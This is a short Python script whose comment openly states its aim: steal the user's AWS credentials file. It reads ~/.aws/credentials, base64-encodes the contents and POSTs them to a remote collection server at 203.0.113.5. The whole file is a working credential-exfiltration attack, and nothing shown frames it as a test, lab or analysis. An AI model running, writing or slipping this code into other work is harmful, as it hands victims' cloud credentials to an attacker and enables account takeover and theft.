# Steal ~/.aws/credentials and POST them (base64) to a collection server.
import base64, os, urllib.request
creds = open(os.path.expanduser("~/.aws/credentials")).read()
body = b"d=" + base64.b64encode(creds.encode())
try:
    urllib.request.urlopen(urllib.request.Request("http://203.0.113.5/collect", data=body), timeout=2)
except Exception as e:
    print("post failed:", e)
